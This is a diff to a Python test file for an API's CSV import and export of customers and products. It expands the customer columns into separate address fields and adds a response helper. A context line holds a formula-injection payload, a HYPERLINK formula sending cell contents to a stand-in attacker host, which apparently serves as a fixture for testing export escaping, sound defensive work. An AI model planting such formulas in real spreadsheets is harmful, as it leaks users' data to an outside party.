@@ -20,7 +20,18 @@ URLS = {"products": PRODUCTS, "customers": CUSTOMERS}
 MODELS = {"products": Product, "customers": Customer}
 EN = {"Accept-Language": "en"}
 PRODUCT_HEADER = ["name", "sku", "price", "taxRate", "unit", "active"]
-CUSTOMER_HEADER = ["name", "email", "taxId", "address", "phone"]
+CUSTOMER_HEADER = [
+    "name",
+    "email",
+    "phone",
+    "taxId",
+    "street",
+    "postalCode",
+    "city",
+    "region",
+    "country",
+    "surcharge",
+]
 HEADERS = {"products": PRODUCT_HEADER, "customers": CUSTOMER_HEADER}
 FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Clic aquí")'
 
@@ -88,6 +99,13 @@ def listing(client, url: str, member) -> list[dict]:
     ]
 
 
+def customer_answer(**values) -> dict:
+    """A customer as the API answers it: blank but for ``values``."""
+    address = {"street": "", "postalCode": "", "city": "", "region": "", "country": ""}
+    answer = {"email": "", "taxId": "", "country": "", "surcharge": False, "phone": ""}
+    return {**answer, "address": address, **values}
+
+
 def count(app, kind: str, organization_id: str) -> int:
     model = MODELS[kind]
     with app.app_context():
@@ -142,13 +160,18 @@ def test_customer_export_keeps_commas_quotes_and_line_breaks(client, make_user):
     create_all(client, CUSTOMERS, operator, CUSTOMER_ROWS[:2])
     assert parse(export(client, CUSTOMERS, operator)) == [
         CUSTOMER_HEADER,
-        ["Abarrotes Díaz", "", "", "", ""],
+        ["Abarrotes Díaz", "", "", "", "", "", "", "", "", "false"],
         [
             "Ferretería López",
             "compras@lopez.example.mx",
+            "'+52 55 1234 5678",
             "LOPE800101AB1",
             "Av. Reforma 1, piso 2\nCiudad de México",
-            "'+52 55 1234 5678",
+            "",
+            "",
+            "",
+            "",
+            "false",
         ],
     ]
 
@@ -258,8 +281,8 @@ def test_import_customers(client, make_user):
     body = assert_envelope(upload(client, CUSTOMERS, operator, content), 201)
     assert body["message"] == "2 clientes importados" and body["data"] == {"imported": 2}
     assert listing(client, CUSTOMERS, operator) == [
-        {"name": "Ana", "email": "ana@example.com", "taxId": "", "address": "", "phone": "555"},
-        {"name": "Beto", "email": "", "taxId": "", "address": "", "phone": ""},
+        customer_answer(name="Ana", email="ana@example.com", phone="555"),
+        customer_answer(name="Beto"),
     ]
 
 
